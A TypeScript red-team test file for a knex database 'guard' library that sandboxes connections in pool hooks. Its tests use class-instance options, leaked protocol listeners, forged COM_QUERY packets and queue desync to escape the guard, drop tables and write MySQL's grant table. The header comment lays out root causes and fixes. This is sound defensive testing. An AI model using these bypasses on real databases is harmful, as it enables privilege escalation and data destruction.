import { expect } from 'chai';
import knex, { type Knex } from 'knex';
import { guard } from '../../lib';
import { testDialects } from '../support/dialects';
import { mysqlSuperuserDatabase, outcomeOf, pgSuperuserDatabase, tableExists, throughHook } from '../support/guard-attack';

/*
 * Red team rt40 (session 15), against f6fd2c0 (s15): the raw-connection views, third round
 * (lib/guard/raw-connection.ts guardRawConnection: `withCallbacks`, `callback`, `reach`, `field`, `shield`,
 * `isDriverObject`; lib/dialects/*\/raw-connection-methods.ts). Each attack test fails on f6fd2c0 and asserts the
 * effect on the real server (MariaDB 10.11 / PostgreSQL 15 as superuser: a table really dropped, a row really
 * written in the grant table mysql.db); it passes once the class is fixed, whatever the fix refuses (the hook's
 * call, the listener, the session, the query, the connection).
 * Run: npx mocha test/integration/guard-redteam-rt40.test.ts   (DIALECTS=mysql or DIALECTS=postgres narrows)
 * On f6fd2c0: 11 tests fail (9 attack tests: 7 mysql, 2 pgnative; 2 ordinary "4." tests: mysql, mariadb), 1 ordinary
 * control passes (4. mysql2).
 *
 * 1. (high) mysql (mysqljs) and pgnative: red team 39's fix wraps the functions of an options object only when
 *    the object's prototype is Object.prototype or null. An options object that is a class instance (any other
 *    prototype) counts as a "driver object" and is handed over as it is; the dialects' readers then copy its own
 *    properties, function values included, for the driver:
 *    - mysqljs: `conn.query(new Options({ sql: 'select 1 as one', typeCast() { raw = this … } }), cb)`:
 *      RowDataPacket.parse calls `typeCast.apply(connection, …)`, the raw Connection; `raw.query(drop)` runs
 *      unjudged, from pool.afterCreate and pool.validate;
 *    - pgnative: `conn.query(new Options({ text: 'select 1', callback() { this.native.querySync(drop) } }))`:
 *      pg's native Client calls it as a method of the raw NativeQuery, whose `native` is pg-native's client.
 *    Root cause: raw-connection.ts `withCallbacks` (`isDriverObject(arg)` → `return arg`), with
 *    mysql raw-connection-methods.ts `plainOptions` / `sqlAndValues` and postgres `pgQuery` (config copy), which
 *    copy function values as given. The README promises "a function in an options object it hands one, such as
 *    mysql's `typeCast` or pg's `callback`, gets the view".
 *    Fix for the class: wrap by what the driver reads, not by prototype: every non-function object argument the
 *    readers copy is copied (own enumerable properties, read once, as plainOptions does) and every function value
 *    in the copy wrapped, whatever the object's prototype (a Proxy included, since only the copy is handed on);
 *    or refuse an options object that is not plain data.
 * 2. (high) mysql (mysqljs): the guard's own session read is read wrong. A listener the hook puts on its view
 *    (`conn.on('enqueue', …)`) is still called after done(), and is handed the guard's read Sequence (shielded).
 *    `sequence._results` is shielded, but reading its element `[0]` goes through `field('0', …)` → `reach`,
 *    which hands the rows array over as plain data, writable. mysqljs emits the Sequence's 'end' right after
 *    calling the read's callback, before the guard's `await` resumes, so an 'end' listener replaces the row.
 *    The hook makes `mysql` the session's default database (changeUser, allowed before the read), which the
 *    read refuses; the row is made to say `database()` is the application's, and a later knex
 *    `insert into db (Host, Db, User) …` writes the grant table mysql.db by bare name.
 *    Root cause: raw-connection.ts `callback` (a listener's wrapper never stops, and sees the guard's own
 *    commands), `field` / `reach` (only `_…` fields' values are shielded; what is read from a shield's public
 *    or index keys, plain arrays and objects, is handed out as is, at any depth below), and
 *    lib/dialects/mysql/guard-text.ts readSession (reads the row after the driver has let others see it).
 *    Fix for the class: (a) the guard's read copies the values inside the driver's callback (synchronously, before
 *    any listener runs) or runs with no hook listener able to see it; (b) listeners and callbacks registered through
 *    a hook's view stop calling the hook's function once it handed over / settled (or are removed then);
 *    (c) what a shield hands out is read-only at every depth (a shield of an array or plain object too, or a deep
 *    copy), not only at its first level.
 * 3. (high) mysql (mysqljs): the Protocol's own listeners still reach the hook, and run:
 *    - 3.  `q._events` is shielded (private field), but `q._events.packet` (an array once the hook adds a second
 *      'packet' listener) comes back as a plain array: its element is the Protocol's raw listener
 *      `function (packet) { …; self._emitPacket(packet) }`. Called from a listener prepended on a queued query
 *      when it starts (packet number reset to 0), it writes a forged COM_QUERY: the drop runs, from both hooks.
 *    - 3b. `q._events.end` likewise hands out the Protocol's `function () { self._dequeue(sequence) }`: called
 *      at once, the queue moves on before the query's reply, so the guard's session read (next in the queue) is
 *      answered with the hook's row (`database()` as the application's while the session is in `mysql`), and the
 *      grant table is written as in 2. (pause()/resume(), let through, and the hook's 'enqueue' listener only
 *      order the replies so the test does not depend on timing.)
 *    - 3c. without `_events`: a 'newListener' listener on a queued Sequence (on() passes; 'enqueue' comes before
 *      the Protocol adds its listeners) is called with each of the Protocol's listeners; a driver function reaches
 *      the hook as a shield, and a shield's `apply` trap runs it without any allow-list: the 'end' one dequeues as
 *      in 3b. (The 'packet' one writes a forged packet whose `write` is a class instance's, as in 1 and 3.)
 *    Root cause: raw-connection.ts `field` / `reach` (plain arrays holding driver functions handed out as is),
 *    `shield`'s `apply` / `construct` (a shielded driver function runs, with only its arguments wrapped), and
 *    OBJECT_PASSES letting 'newListener' / 'removeListener' events hand the driver's own listeners to the hook.
 *    Fix for the class: no driver function reaches the hook callable: `reach` gives a function that is not the
 *    hook's own (not one of `callbacks`' wrappers) as a refusing stand-in (or shields of functions refuse apply),
 *    except the few a driver hands a callback on purpose (mysqljs typeCast's `next`, better-sqlite3's
 *    transaction functions), named per dialect; arrays and plain objects read from a shield are shielded too;
 *    'newListener' / 'removeListener' listeners get the hook's own wrapper or nothing.
 * 4. (low, ordinary code broken) mysql (mysqljs) and mariadb: red team 39's fix made a query's `typeCast` get the
 *    view, and so its `field` argument is now reached through the guard: mysqljs's Field and mariadb's ColumnDef
 *    are class instances, so shields, and `field.string()` (the documented way to read a column in a typeCast,
 *    mysqljs README; mariadb adds string()/int()/date()… to the column) is refused as a driver method. Uncaught,
 *    that refusal is thrown inside the driver's row parser and crashes the connection (mariadb: "socket has
 *    unexpectedly been closed"; mysqljs: an uncaught exception). mysql2 hands a plain object (control, passes).
 *    Root cause: raw-connection.ts `callback` (`args.map(reach)`) with `shield`'s name-gated methods.
 *    Fix: per dialect, name a typeCast field's readers (string, buffer, geometry; mariadb's int, long, decimal,
 *    date, datetime, float…) in objectPasses for that object class, or hand the field over as is (it holds the
 *    packet parser, not the connection or a writer).
 *
 * Near misses (handled, or documented as not covered; "(source)": read in the installed drivers, mysql2 3.24.6,
 * mysql 2.18.1, mariadb 3.5.4, pg 8.23.1, pg-native 3.9.0, better-sqlite3 12.11.1, not run):
 * - mysql: `SET sql_mode = '…ANSI_QUOTES…'` in the hook is refused (so the session cannot be made to lex `"x\"`
 *   other than the read says); `seq._callback` and other function-valued fields of a shield are name-gated
 *   (refused), only functions inside plain arrays (3) or handed to listeners (3c) run. Without the row rewrite
 *   (2) or the early dequeue (3b, 3c) the guard refuses the session (`database()` is `mysql`): checked.
 * - mysql2 / mariadb: a class-instance options object's `typeCast` is called with the options as `this`
 *   (harmless); (source) mysql2's `infileStreamFactory` option is called with the raw Query command as `this`,
 *   but only for a LOAD DATA LOCAL reply, which the guard's text rules refuse. mariadb `cmd._events.end` holds the
 *   inner Connection's bound `_sendNextCmd`, which only sends the next queued command (replies are matched by
 *   its receive queue). mysql2 commands carry no driver listeners of their own.
 * - pg (JS): a class-instance config's callback gets the raw pg Query, which holds no protocol connection (its
 *   handle… methods get it, but for a config query the Query is pg's own, never the hook's).
 * - pgnative (source): a callback's shielded `this.native` still runs `on()`, so a 'result' listener the hook puts on
 *   pg-native's client outlives the hook and gets every later result as plain data (rows writable), the guard's
 *   session read included; that read is sealed (SHA-256 of a nonce only its text holds), so a rewritten row makes
 *   the read fail (E_GUARD_SESSION) rather than read other values. pg-native's own listeners (`_onResult`,
 *   `_onReadyForQuery`, bound) come out of `native._events` the same way as in 3; libpq allows one command at a
 *   time, so an early `_onReadyForQuery` makes the next query fail, not read another reply.
 * - (source) `stream.pipe(dest)` (let through) emits 'pipe' on the hook's `dest` with the raw Readable of a
 *   mysql2 / mysqljs / mariadb stream; those hold their command only in closures (`_read`, a bound `close`).
 * - Symbol-keyed methods of the view run unchecked (`get`'s `typeof key === 'string'` test sends them to the
 *   let-through branch): mysql2 `conn[Symbol.dispose]()` runs `end()` (COM_QUIT, no SQL), better-sqlite3's
 *   `[util.inspect.custom]`; low (closing the connection), not tested. An async generator callback is wrapped
 *   as a plain function (returns the same object; better-sqlite3 takes only generator functions anyway).
 */

const dialects = testDialects();

type Callback = (error: unknown, ...results: unknown[]) => void;

/** Runs `attack`, never letting it throw or hang the hook: what came of it, for failure messages. */
function attempt(attack: (report: (outcome: string) => void) => void): Promise<string> {
  return new Promise((resolve) => {
    try {
      attack(resolve);
    } catch (error) {
      resolve(`refused: ${(error as Error).message}`);
    }
  });
}

/** An outcome callback for a node-style driver call. */
const reporting = (report: (outcome: string) => void): Callback => (error) => report(error ? `refused: ${(error as Error).message}` : 'ran');

/** A guarded instance of `config` with one pooled connection whose pool.validate is `validate`; two queries (validate runs on the second), then `use`. */
async function throughValidate<T>(config: Knex.Config, validate: (conn: never) => unknown, use: (db: Knex) => Promise<T> = async () => undefined as T): Promise<T> {
  const db = guard(knex({ ...config, acquireConnectionTimeout: 5000, pool: { min: 0, max: 1, validate: validate as never } }));
  try {
    await outcomeOf(db.raw('select 1'));
    await outcomeOf(db.raw('select 1'));
    return await use(db);
  } finally {
    await db.destroy();
  }
}

/** Runs `attack` on the first call only (a broken connection makes knex create another, and run the hook again). */
function once(attack: (conn: never) => Promise<string>): { hook: (conn: never) => Promise<unknown>; outcome: () => string } {
  let outcome = '';
  let ran = false;
  return {
    hook: async (conn) => {
      if (ran) return true;
      ran = true;
      outcome = await attack(conn);
      return true;
    },
    outcome: () => outcome,
  };
}

/**
 * An options object as a class instance (its prototype is not Object.prototype): ordinary data
 * to the driver, which reads its own properties, but a "driver object" to the guard's
 * `withCallbacks`, which hands it over as it is, its functions unwrapped.
 */
class Options {
  constructor(fields: Record<string, unknown>) {
    Object.assign(this, fields);
  }
}

if (dialects.includes('mysql')) {
  describe('guard red team rt40, MariaDB as superuser: the raw-connection views, third round', () => {
    const DATABASE = 'knexroles_redteam_rt40';
    const database = mysqlSuperuserDatabase(DATABASE);
    const VICTIM = 'rt40_victim';
    const drop = `drop table ${DATABASE}.${VICTIM}`;
    beforeEach(async () => {
      await database.admin.raw(`create table if not exists ${DATABASE}.${VICTIM} (id int)`);
    });
    const victimExists = (): Promise<boolean> => tableExists.mysql(database.admin, DATABASE, VICTIM);
    const config = (client: string): Knex.Config => ({ client, connection: database.connection, acquireConnectionTimeout: 5000 });

    describe('1. mysql: a typeCast in query options that are a class instance gets the raw connection as this', () => {
      type RawConn = { query(sql: string, cb: Callback): unknown };
      type MysqlConn = { query(options: object, cb: Callback): unknown };
      const throughTypeCast = (conn: MysqlConn): Promise<string> =>
        attempt((report) => {
          let self: unknown;
          conn.query(
            new Options({
              sql: 'select 1 as one',
              typeCast(this: unknown, _field: unknown, next: () => unknown) {
                self = this;
                return next();
              },
            }),
            (error) => {
              if (error) return report(`query failed: ${(error as Error).message}`);
              if (self === conn || typeof (self as Partial<RawConn> | undefined)?.query !== 'function') return report('the view');
              try {
                (self as RawConn).query(drop, reporting(report));
              } catch (thrown) {
                report(`refused: ${(thrown as Error).message}`);
              }
            },
          );
        });

      it(`(mysql) pool.afterCreate: typeCast's this is not the raw connection: ${VICTIM} is still there`, async () => {
        let outcome = '';
        await throughHook(config('mysql'), async (conn: MysqlConn) => void (outcome = await throughTypeCast(conn)));
        expect(await victimExists(), `dropped through typeCast's this (${outcome})`).to.equal(true);
      });

      it(`(mysql) pool.validate: typeCast's this is not the raw connection: ${VICTIM} is still there`, async () => {
        const attack = once((conn: MysqlConn) => throughTypeCast(conn));
        await throughValidate(config('mysql'), attack.hook);
        expect(await victimExists(), `dropped through typeCast's this (${attack.outcome()})`).to.equal(true);
      });
    });

    describe('2. mysql: an enqueue listener that outlives the hook rewrites the rows of the guard\'s own session read', () => {
      type Sequence = { sql?: unknown; _results?: Array<Array<Record<string, unknown>>>; on(event: string, listener: () => void): unknown };
      type MysqlConn = { changeUser(options: { database: string }, cb: Callback): unknown; on(event: string, listener: (sequence: Sequence) => void): unknown };
      const GRANTED = 'rt40_granted_db';
      const grantRows = async (): Promise<number> => (await database.admin.raw('select count(*) as n from mysql.db where Db = ?', [GRANTED]))[0][0].n;
      afterEach(async () => {
        await database.admin.raw('delete from mysql.db where Db = ?', [GRANTED]);
      });
      // The hook makes `mysql` the session's default database (changeUser is a session method the hook may call
      // before the read); the guard refuses such a session at its read, unless the read is made to say otherwise:
      // the listener, still called after done(), rewrites the read's row (database() as d) once the driver has
      // built it and before the guard looks at it. A later knex query then writes the grant table by bare name.
      const rewriteSessionRead = (conn: MysqlConn): Promise<string> =>
        attempt((report) => {
          conn.on('enqueue', (sequence) => {
            if (!String(sequence.sql).includes('@@session.sql_mode')) return;
            sequence.on('end', () => {
              // _results is shielded, but its element (the rows array) is plain data, handed over as is.
              const rows = sequence._results?.[0];
              if (Array.isArray(rows) && rows[0] !== undefined) rows[0] = { ...rows[0], d: DATABASE };
            });
          });
          conn.changeUser({ database: 'mysql' }, reporting(report));
        });

      it(`(mysql) pool.afterCreate: the guard reads the session's real default database: no row in mysql.db`, async () => {
        let outcome = '';
        const query = await throughHook(
          config('mysql'),
          async (conn: MysqlConn) => void (outcome = await rewriteSessionRead(conn)),
          (db) => outcomeOf(db.raw(`insert into db (Host, Db, User) values ('%', '${GRANTED}', 'rt40_nobody')`)),
        );
        expect(await grantRows(), `a grant row written by bare name in mysql (hook: ${outcome}, query: ${query})`).to.equal(0);
      });
    });

    describe('3. mysql: a shielded query\'s `_events` hands out the protocol\'s own packet listener in a plain array', () => {
      type PacketWriter = { writeUnsignedNumber(bytes: number, value: number): void; writeString(value: string): void };
      /** A packet mysqljs's Protocol writes as is (it calls `packet.write(writer)`): COM_QUERY with `sql`. */
      const forged = (sql: string): { write(writer: PacketWriter): void } => ({
        write(writer) {
          writer.writeUnsignedNumber(1, 0x03);
          writer.writeString(sql);
        },
      });
      type Listener = (packet: unknown) => void;
      type Sequence = { _events?: Record<string, Listener | Listener[] | undefined>; on(event: string, listener: () => void): unknown; prependListener(event: string, listener: () => void): unknown };
      type MysqlConn = { query(sql: string, cb: Callback): Sequence };
      /** The Protocol's 'packet' listener (`self._emitPacket(packet)`), read from the array `_events.packet` becomes with a second listener. */
      const protocolWriter = (sequence: Sequence): Listener | undefined => {
        sequence.on('packet', () => undefined);
        const listeners = sequence._events?.['packet'];
        return (Array.isArray(listeners) ? [...listeners] : []).find((listener) => typeof listener === 'function' && String(listener).includes('_emitPacket'));
      };
      // The first query has started (its packet is written); the second is queued. When the second starts, the
      // protocol's packet number is reset to 0 and the hook's listener (prepended, so it runs first) writes the
      // forged COM_QUERY through the raw writer: the server runs it as a new command.
      const throughEvents = (conn: MysqlConn): Promise<string> =>
        attempt((report) => {
          const first = conn.query('select 1 as rt40_first', () => undefined);
          const write = protocolWriter(first);
          if (write === undefined) return report('no raw packet listener');
          const second = conn.query('select 2 as rt40_second', (error) => report(error ? `second query: ${(error as Error).message}` : 'ran'));
          second.prependListener('packet', () => {
            try {
              write(forged(drop));
            } catch (thrown) {
              report(`refused: ${(thrown as Error).message}`);
            }
          });
        });

      it(`(mysql) pool.afterCreate: the protocol's packet writer is not handed out: ${VICTIM} is still there`, async () => {
        let outcome = '';
        await throughHook(config('mysql'), async (conn: MysqlConn) => void (outcome = await throughEvents(conn)));
        expect(await victimExists(), `dropped by a COM_QUERY written through _events.packet (${outcome})`).to.equal(true);
      });

      it(`(mysql) pool.validate: the protocol's packet writer is not handed out: ${VICTIM} is still there`, async () => {
        const attack = once((conn: MysqlConn) => throughEvents(conn));
        await throughValidate(config('mysql'), attack.hook);
        expect(await victimExists(), `dropped by a COM_QUERY written through _events.packet (${attack.outcome()})`).to.equal(true);
      });
    });

    type Paced = { pause(): void; resume(): void; on(event: string, listener: (sequence: { sql?: unknown; on(event: string, listener: () => void): unknown }) => void): unknown };
    /**
     * 3b, 3c: once the hook has dequeued its query early (and paused the connection, which is let through), each
     * reply is read by the command after its own. The hook's 'enqueue' listener (still called after done()) keeps
     * that from depending on timing: a held reply is let in only once the next command is queued and sent (on
     * the next tick), and the connection is paused again when the guard's read has its (fake) reply.
     */
    const holdRepliesOneOff = (conn: Paced): void => {
      let read = false;
      conn.on('enqueue', (sequence) => {
        if (String(sequence.sql).includes('@@session.sql_mode')) {
          read = true;
          sequence.on('end', () => conn.pause());
        } else if (!read) return;
        process.nextTick(() => conn.resume());
      });
    };

    describe('3b. mysql: the protocol\'s own end listener, from the same plain array, dequeues a query before its reply: the guard\'s session read gets it', () => {
      type Listener = () => void;
      type Sequence = { sql?: unknown; _events?: Record<string, Listener | Listener[] | undefined>; on(event: string, listener: () => void): unknown };
      type MysqlConn = { query(sql: string, cb: Callback): Sequence; changeUser(options: { database: string }, cb: Callback): unknown; pause(): void; resume(): void; on(event: string, listener: (sequence: Sequence) => void): unknown };
      const GRANTED = 'rt40_granted_db3';
      const grantRows = async (): Promise<number> => (await database.admin.raw('select count(*) as n from mysql.db where Db = ?', [GRANTED]))[0][0].n;
      afterEach(async () => {
        await database.admin.raw('delete from mysql.db where Db = ?', [GRANTED]);
      });
      // The session's default database becomes `mysql` (changeUser, allowed in the hook); a query whose row looks
      // like the guard's read is sent, and the Protocol's 'end' listener of that query (`self._dequeue(sequence)`)
      // is called at once: the queue moves on while its reply is still to come. The guard's session read, next in
      // the queue, is answered with that row (database() as the application's), and every later reply is one off.
      const desync = (conn: MysqlConn): Promise<string> =>
        attempt((report) => {
          holdRepliesOneOff(conn);
          conn.changeUser({ database: 'mysql' }, (error) => {
            if (error) return report(`changeUser: ${(error as Error).message}`);
            // Once changeUser's sequence has left the queue (its 'end' comes after this callback), so the query starts at once.
            void Promise.resolve().then(() => {
              const fake = conn.query(`select 'STRICT_TRANS_TABLES' as m, 'utf8mb4' as c, 'utf8mb4' as cc, '${DATABASE}' as d`, () => undefined);
              fake.on('end', () => undefined);
              const listeners = fake._events?.['end'];
              const dequeue = (Array.isArray(listeners) ? [...listeners] : []).find((listener) => typeof listener === 'function' && String(listener).includes('_dequeue'));
              if (dequeue === undefined) return report('no raw end listener');
              try {
                dequeue();
                conn.pause();
                report('dequeued');
              } catch (thrown) {
                report(`refused: ${(thrown as Error).message}`);
              }
            });
          });
        });

      it(`(mysql) pool.afterCreate: the guard's session read gets its own reply: no row in mysql.db`, async () => {
        let outcome = '';
        const query = await throughHook(
          config('mysql'),
          async (conn: MysqlConn) => void (outcome = await desync(conn)),
          (db) => outcomeOf(db.raw(`insert into db (Host, Db, User) values ('%', '${GRANTED}', 'rt40_nobody')`)),
        );
        expect(await grantRows(), `a grant row written by bare name in mysql (hook: ${outcome}, query: ${query})`).to.equal(0);
      });
    });

    describe('3c. mysql: a newListener listener on a shielded query is handed the protocol\'s own listeners, which still run', () => {
      type Listener = () => void;
      type Sequence = { sql?: unknown; on(event: string, listener: (event: string, listener: Listener) => void): unknown };
      type MysqlConn = { query(sql: string, cb: Callback): Sequence; changeUser(options: { database: string }, cb: Callback): unknown; pause(): void; resume(): void; on(event: string, listener: (sequence: Sequence) => void): unknown };
      const GRANTED = 'rt40_granted_db3c';
      const grantRows = async (): Promise<number> => (await database.admin.raw('select count(*) as n from mysql.db where Db = ?', [GRANTED]))[0][0].n;
      afterEach(async () => {
        await database.admin.raw('delete from mysql.db where Db = ?', [GRANTED]);
      });
      const FAKE = `select 'STRICT_TRANS_TABLES' as m, 'utf8mb4' as c, 'utf8mb4' as cc, '${DATABASE}' as d`;
      // 'enqueue' comes before the Protocol adds its listeners to the sequence, so the hook's 'newListener'
      // listener is called with each of them; a driver function reaches the hook as a shield, and a shield's
      // apply runs it. The 'end' one (`self._dequeue(sequence)`), called at once, moves the queue on before the
      // reply: as in 3b, the guard's session read is answered with the hook's row. (The 'packet' one, called when a
      // queued query starts with a packet whose write() is a class instance's, finding 1, writes a forged
      // COM_QUERY the same way as 3.)
      const throughNewListener = (conn: MysqlConn): Promise<string> =>
        attempt((report) => {
          let dequeue: Listener | undefined;
          let refusedListening = '';
          holdRepliesOneOff(conn);
          conn.on('enqueue', (sequence) => {
            if (sequence.sql !== FAKE) return;
            // (Session 15) the guard refuses the listener; caught here, so mysqljs's enqueue is not broken by a throw.
            try {
              sequence.on('newListener', (event, listener) => {
                if (event === 'end' && dequeue === undefined) dequeue = listener;
              });
            } catch (thrown) {
              refusedListening = (thrown as Error).message;
            }
          });
          conn.changeUser({ database: 'mysql' }, (error) => {
            if (error) return report(`changeUser: ${(error as Error).message}`);
            // Once changeUser's sequence has left the queue (its 'end' comes after this callback): the query is then
            // sent at once, and its 'end' listener, called at once, dequeues it before its reply.
            void Promise.resolve().then(() => {
              conn.query(FAKE, () => undefined);
              if (dequeue === undefined) return report(refusedListening === '' ? 'no end listener handed over' : `refused: ${refusedListening}`);
              try {
                dequeue();
                conn.pause();
                report('dequeued');
              } catch (thrown) {
                report(`refused: ${(thrown as Error).message}`);
              }
            });
          });
        });

      it(`(mysql) pool.afterCreate: the guard's session read gets its own reply: no row in mysql.db`, async () => {
        let outcome = '';
        const query = await throughHook(
          config('mysql'),
          async (conn: MysqlConn) => void (outcome = await throughNewListener(conn)),
          (db) => outcomeOf(db.raw(`insert into db (Host, Db, User) values ('%', '${GRANTED}', 'rt40_nobody')`)),
        );
        expect(await grantRows(), `a grant row written by bare name in mysql (hook: ${outcome}, query: ${query})`).to.equal(0);
      });
    });

    describe('ordinary use that a fix must keep working, and that f6fd2c0 broke', () => {
      type TypeCastField = { type?: unknown; string(): unknown };
      type Conn = { query(options: { sql: string; typeCast: (field: TypeCastField, next: () => unknown) => unknown }, cb: (error: unknown, rows?: Array<Record<string, unknown>>) => void): unknown };
      /** The documented typeCast shape (mysqljs README, mariadb's typeCast option): read the column as text with field.string(). */
      const castAsText = (conn: Conn): Promise<string> =>
        new Promise((resolve) => {
          try {
            const typeCast = (field: TypeCastField, next: () => unknown): unknown => {
              try {
                return `text:${String(field.string())}`;
              } catch (thrown) {
                // The column must still be read, or the driver reads the rest of the row out of step.
                next();
                return `field.string() threw: ${(thrown as Error).message}`;
              }
            };
            conn.query({ sql: 'select 42 as rt40_answer', typeCast }, (error, rows) =>
              resolve(error ? `failed: ${(error as Error).message}` : String(rows?.[0]?.['rt40_answer'])),
            );
          } catch (thrown) {
            resolve(`threw: ${(thrown as Error).message}`);
          }
        });

      // mysql2 (control, passes): its typeCast field is a plain object, handed over as it is.
      for (const client of ['mysql', 'mariadb', 'mysql2']) {
        it(`4. (${client}) pool.afterCreate: a query's typeCast may read the column with field.string()`, async () => {
          let cast = '';
          await throughHook(config(client), async (conn: Conn) => void (cast = await castAsText(conn)));
          expect(cast).to.equal('text:42');
        });
      }
    });
  });
}

if (dialects.includes('postgres')) {
  describe('guard red team rt40, PostgreSQL as superuser: the raw-connection views, third round', () => {
    const database = pgSuperuserDatabase('knexroles_redteam_rt40');
    const VICTIM = 'rt40_victim';
    beforeEach(async () => {
      await database.admin.raw(`create table if not exists ${VICTIM} (id int)`);
    });
    const victimExists = (): Promise<boolean> => tableExists.postgres(database.admin, VICTIM);
    const config = (client: string): Knex.Config => ({ client, connection: database.connection, acquireConnectionTimeout: 5000 });

    describe('1. pgnative: a callback in a query config that is a class instance is called with the raw NativeQuery as this', () => {
      type Native = { querySync(sql: string): unknown };
      type PgConn = { query(config: object): unknown };
      const throughConfigCallback = (conn: PgConn): Promise<string> =>
        attempt((report) => {
          conn.query(
            new Options({
              text: 'select 1',
              callback(this: { native?: Native } | undefined, error: unknown) {
                if (error) return report(`query failed: ${(error as Error).message}`);
                try {
                  const native = this?.native;
                  if (native === undefined || typeof native.querySync !== 'function') return report('no native client');
                  native.querySync(`drop table ${VICTIM}`);
                  report('ran');
                } catch (thrown) {
                  report(`refused: ${(thrown as Error).message}`);
                }
              },
            }),
          );
        });

      it(`(pgnative) pool.afterCreate: config.callback's this.native does not run SQL: ${VICTIM} is still there`, async () => {
        let outcome = '';
        await throughHook(config('pgnative'), async (conn: PgConn) => void (outcome = await throughConfigCallback(conn)));
        expect(await victimExists(), `dropped through config.callback's this.native (${outcome})`).to.equal(true);
      });

      it(`(pgnative) pool.validate: config.callback's this.native does not run SQL: ${VICTIM} is still there`, async () => {
        const attack = once((conn: PgConn) => throughConfigCallback(conn));
        await throughValidate(config('pgnative'), attack.hook);
        expect(await victimExists(), `dropped through config.callback's this.native (${attack.outcome()})`).to.equal(true);
      });
    });
  });
}
